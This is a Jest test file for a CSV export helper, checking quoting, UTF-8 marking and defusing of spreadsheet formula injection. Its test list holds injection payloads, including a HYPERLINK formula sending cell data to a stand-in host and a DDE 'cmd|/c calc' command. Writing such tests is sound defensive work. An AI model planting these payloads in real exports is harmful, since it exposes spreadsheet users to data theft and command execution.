import { describe, expect, test } from '@jest/globals'
import { csvLine, csvOf } from '../../admin/src/shared/csv.js'

describe('a list as a file for spreadsheets', () => {
  test('is commas, quotes and whole lines, and says that it is UTF-8', () => {
    expect(
      csvOf([
        ['Order', 'Buyer'],
        ['WB-1', 'Müller, "Söhne"\n& Co'],
      ]),
    ).toBe('\ufeff"Order","Buyer"\r\n"WB-1","Müller, ""Söhne""\n& Co"\r\n')
  })

  test.each([
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    '+1+cmd|/c calc!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '|calc',
    '%0A=1+1',
  ])('a name like %j is text, not a formula', (name) => {
    expect(csvLine([name]).startsWith(`"'`)).toBe(true)
  })

  test.each(['WB-2041', 'a=b', '1234.50', 'a+b@c.test', '', "'s Gravenhage"])('%j stays as it is', (name) => {
    expect(csvLine([name])).toBe(`"${name}"\r\n`)
  })
})
